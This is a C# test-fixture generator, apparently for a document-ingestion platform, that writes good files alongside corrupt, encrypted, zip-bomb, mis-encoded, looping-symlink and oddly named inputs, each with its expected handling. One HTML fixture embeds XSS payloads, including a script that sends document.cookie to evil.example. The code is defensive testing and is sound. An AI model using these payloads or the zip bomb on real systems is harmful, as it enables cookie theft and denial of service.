using System.IO.Compression;
using System.Text;
using System.Text.RegularExpressions;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using UglyToad.PdfPig.Core;
using UglyToad.PdfPig.Fonts.Standard14Fonts;
using UglyToad.PdfPig.Writer;

namespace RagPlatform.Reliability.BadInputs;

/// <summary>Writes the bad-input batch: every kind of broken or hostile file next to a few good ones.</summary>
internal static class BadInputCorpus
{
    public static readonly string[] GoodFiles = ["good/handbook.md", "good/notes.txt", "good/page.html", "good/report.pdf", "good/memo.docx"];

    public static IReadOnlyList<BadInput> Write(string root, long maxFileBytes, int inlineDataBytes, int nestingDepth, int seed)
    {
        var random = new Random(seed);
        Write(root, "good/handbook.md", "# Handbook\n\nStaff receive twelve days of paid annual leave each year.\n");
        Write(root, "good/notes.txt", "Notes\n\nThe library opens at eight in the morning.\n");
        Write(root, "good/page.html", "<html><head><title>Page</title></head><body><p>The canteen serves lunch from noon.</p></body></html>");
        Write(root, "good/report.pdf", Pdf("Report", "The annual report covers three projects."));
        Write(root, "good/memo.docx", Docx("The memo announces a meeting on Friday."));

        var inputs = new List<BadInput>();
        void Add(string kind, string path, byte[] bytes, BadInputExpectation expectation)
        {
            Write(root, path, bytes);
            inputs.Add(new BadInput(kind, path, expectation));
        }

        var pdf = Pdf("Cut", "This PDF will be cut in half.");
        Add("corrupt PDF", "pdf/corrupt.pdf", [.. "%PDF-1.7\n"u8, .. Noise(random, 4096), .. "\n%%EOF\n"u8], Reason("corrupt PDF"));
        Add("truncated PDF", "pdf/truncated.pdf", pdf[..(pdf.Length / 2)], Reason("truncated PDF"));
        Add("encrypted PDF", "pdf/encrypted.pdf", EncryptedPdf(random), Reason("encrypted PDF"));
        Add("zip bomb DOCX (real 1000:1 ratio)", "docx/bomb.docx", Zip(("word/document.xml", new byte[64 * 1024 * 1024])), Reason("zip bomb"));
        Add("malformed DOCX (broken XML)", "docx/malformed.docx", MalformedDocx(), Reason("corrupt DOCX|not a Word document"));
        Add("DOCX that is not a ZIP", "docx/random.docx", Noise(random, 2048), Reason("not a DOCX"));
        Add("HTML with scripts and event handlers", "html/scripts.html", Encoding.UTF8.GetBytes(
            "<html><head><title>Scripts</title><script>alert('owned')</script><style>body{background:url(javascript:alert(2))}</style></head>" +
            "<body onload=\"alert(3)\"><p>The visible paragraph survives.</p><img src=x onerror=\"alert(4)\"><noscript>enable scripts</noscript>" +
            "<script type=\"module\">fetch('https://evil.example/?c='+document.cookie)</script></body></html>"),
            new IngestedSafely("alert(", "document.cookie", "evil.example"));
        Add("HTML with huge inline data", "html/huge-inline.html", HugeInlineHtml(inlineDataBytes), new IngestedSafely("base64", "AAAA"));
        Add("invalid UTF-8 text", "text/invalid-utf8.txt", [.. "caf"u8, 0xE9, .. " au lait"u8], Reason("not valid UTF-8"));
        Add("invalid UTF-16 text", "text/invalid-utf16.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Hi"), 0x00, 0xD8, 0x41], Reason("UTF-16"));
        Add("binary file with .txt extension (PNG)", "text/image.txt", [0x89, .. "PNG\r\n"u8, 0x1A, 0x0A, .. Noise(random, 512)], Reason("binary content"));
        Add("binary file with .md extension (ELF)", "text/program.md", [0x7F, .. "ELF"u8, 2, 1, 1, 0, .. new byte[64]], Reason("binary content"));
        Add("empty .txt file", "text/empty.txt", [], Reason("empty file"));
        Add("empty .md file", "text/empty.md", [], Reason("empty file"));
        Add("file over the size limit", "text/oversize.txt", Encoding.ASCII.GetBytes(new string('a', (int)maxFileBytes + 1)), Reason("too large"));

        var deep = string.Join('/', Enumerable.Repeat("nest", nestingDepth)) + "/deep.md";
        Add($"{nestingDepth} nested folders", deep, "# Deep\n\nA file at the bottom of the folder tree.\n"u8.ToArray(), new IngestedSafely());

        Write(root, "loops/inside.md", "# Inside\n\nThe only file in the looping folder.\n");
        Directory.CreateSymbolicLink(Path.Combine(root, "loops", "back-to-batch"), root);
        Directory.CreateSymbolicLink(Path.Combine(root, "loops", "self"), Path.Combine(root, "loops"));
        inputs.Add(new BadInput("symbolic link loops", "loops/back-to-batch", new NotFollowed()));
        inputs.Add(new BadInput("symbolic link to its own folder", "loops/self", new NotFollowed()));

        foreach (var (kind, name) in new[]
                 {
                     ("file name with '..'", "report..final.md"),
                     ("file name of dots and '..'", "a..b..c.txt"),
                     ("file name with a bell control character", "bell\u0007name.md"),
                     ("file name with a tab", "tab\tname.txt"),
                     ("file name with a line break", "line\nbreak.md"),
                     ("file name with an ANSI escape sequence", "esc\u001b[31mred.txt"),
                 })
        {
            Add(kind, $"names/{name}", Encoding.UTF8.GetBytes($"# Odd name\n\nA normal document with an odd file name ({kind}).\n"), new IngestedSafely());
        }

        return inputs;
    }

    private static Rejected Reason(string pattern) => new(new Regex(pattern, RegexOptions.CultureInvariant));

    private static void Write(string root, string relativePath, string text) => Write(root, relativePath, Encoding.UTF8.GetBytes(text));

    private static void Write(string root, string relativePath, byte[] bytes)
    {
        var path = Path.Combine(root, relativePath);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllBytes(path, bytes);
    }

    private static byte[] Noise(Random random, int count)
    {
        var bytes = new byte[count];
        random.NextBytes(bytes);
        return bytes;
    }

    private static byte[] Pdf(string title, string line)
    {
        var builder = new PdfDocumentBuilder();
        builder.DocumentInformation.Title = title;
        var font = builder.AddStandard14Font(Standard14Font.Helvetica);
        builder.AddPage(UglyToad.PdfPig.Content.PageSize.A4).AddText(line, 12, new PdfPoint(50, 780), font);
        return builder.Build();
    }

    /// <summary>A valid PDF whose trailer names a standard security handler with a password nobody knows.</summary>
    private static byte[] EncryptedPdf(Random random)
    {
        var text = Encoding.Latin1.GetString(Pdf("Secret", "Nobody can read this without the password."));
        var trailer = text.LastIndexOf("trailer", StringComparison.Ordinal);
        var open = text.IndexOf("<<", trailer, StringComparison.Ordinal) + 2;
        var key = Convert.ToHexString(Noise(random, 32));
        var encrypt = $" /Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <{key}> /U <{Convert.ToHexString(Noise(random, 32))}> >> /ID [<{key[..32]}> <{key[..32]}>]";
        return Encoding.Latin1.GetBytes(text.Insert(open, encrypt));
    }

    private static byte[] Docx(string paragraph)
    {
        using var stream = new MemoryStream();
        using (var document = WordprocessingDocument.Create(stream, DocumentFormat.OpenXml.WordprocessingDocumentType.Document))
        {
            document.AddMainDocumentPart().Document = new Document(new Body(new Paragraph(new Run(new Text(paragraph)))));
        }

        return stream.ToArray();
    }

    private static byte[] MalformedDocx()
    {
        var valid = Docx("Soon to be broken.");
        using var stream = new MemoryStream();
        stream.Write(valid);
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            archive.GetEntry("word/document.xml")!.Delete();
            using var entry = new StreamWriter(archive.CreateEntry("word/document.xml").Open());
            entry.Write("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>unclosed");
        }

        return stream.ToArray();
    }

    private static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var entry = archive.CreateEntry(name, CompressionLevel.SmallestSize).Open();
                entry.Write(content);
            }
        }

        return stream.ToArray();
    }

    private static byte[] HugeInlineHtml(int inlineDataBytes)
    {
        var html = new StringBuilder(inlineDataBytes + 256);
        html.Append("<html><head><title>Inline image</title></head><body><p>The paragraph before the inline image.</p><img alt=\"\" src=\"data:image/png;base64,");
        html.Append('A', inlineDataBytes);
        html.Append("\"><p>The paragraph after it.</p></body></html>");
        return Encoding.ASCII.GetBytes(html.ToString());
    }
}
